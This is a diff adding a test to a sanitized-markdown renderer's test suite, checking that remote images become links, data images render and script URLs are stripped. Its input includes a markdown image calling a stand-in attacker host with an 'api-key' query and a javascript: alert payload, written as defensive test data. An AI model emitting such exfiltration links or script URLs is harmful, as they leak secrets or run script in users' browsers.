@@ -45,6 +45,19 @@ describe('sanitized markdown', () => {
     }
   });
 
+  test('remote images are not fetched: each becomes a link to open; inline data images show', async () => {
+    const pixel = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
+    const el = await mount(`![secret](https://attacker.example/leak?q=api-key) ![dot](${pixel}) ![x](javascript:alert(1))`);
+    const r = root(el);
+    const imgs = [...r.querySelectorAll('img')];
+    expect(imgs.map((i) => i.getAttribute('src'))).toEqual([pixel]);
+    const link = r.querySelector<HTMLAnchorElement>('a.remote-image')!;
+    expect(link.textContent).toBe('Image: secret (attacker.example)');
+    expect(link.getAttribute('href')).toBe('https://attacker.example/leak?q=api-key');
+    expect(link.rel).toBe('noopener noreferrer');
+    expect(r.innerHTML).not.toContain('javascript:');
+  });
+
   test('renders GFM tables and code blocks with a working copy button', async () => {
     const el = await mount('| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\n');
     const r = root(el);
